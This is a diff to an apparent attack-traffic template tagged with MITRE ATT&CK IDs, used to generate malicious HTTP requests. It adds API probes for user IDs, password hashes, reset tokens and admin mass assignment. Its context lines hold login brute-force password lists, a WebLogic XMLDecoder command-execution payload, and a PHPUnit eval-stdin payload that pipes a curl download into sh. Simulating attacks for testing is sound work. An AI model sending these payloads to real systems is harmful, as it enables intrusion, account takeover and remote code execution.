@@ -107,6 +107,10 @@ GET /«nmaplowercheck«epoch»|NmapUpperCheck«epoch»|nice%20ports%2C/Tri%6Eity
 # T1110 login guessing
 POST /«wp-login.php|administrator/index.php|login.action|user/login|j_spring_security_check|admin/login.php|manager/html|api/login|cgi-bin/luci|phpmyadmin/index.php» <<< «log|username|user|j_username|login|pma_username»=«admin|root|test|administrator|user|guest|«first»»&«pwd|password|passwd|j_password|pma_password»=«admin|123456|password|admin123|qwerty|root|12345678|letmein|P@ssw0rd|toor|«word»123|changeme|«site»2024»&«wp-submit=Log+In|submit=Login|redirect_to=»
 POST /xmlrpc.php <<< <?xml version="1.0"?><methodCall><methodName>«wp.getUsersBlogs|system.multicall|wp.getUsers|metaWeblog.newPost»</methodName><params><param><value>«admin|root|«first»»</value></param><param><value>«admin123|123456|«word»«num:1:999»|P@ssw0rd»</value></param></params></methodCall>
+# T1213 api walked through
+GET /api/v«num:1:3»/«users|accounts|customers|orders»/«num:1:99999»?«role=admin|debug=true|include=password_hash,reset_token,mfa_secret|fields=*&limit=100000»
+POST /graphql <<< {"query":"{__schema{types{name fields{name args{name}}}}}"}
+PATCH /api/v«num:1:3»/users/«me|«num:1:99»» <<< {"«role|is_admin|isAdmin|permissions»":"«admin|true|*»","name":"«First»"}
 # T1203 server exploit
 POST /«wls-wsat/CoordinatorPortType|_async/AsyncResponseService» <<< <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>«shbadtext»</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>
 POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php <<< <?php «echo md5("«word»");|system("«id|curl http://«peer»/«letters:2».sh|sh»");»
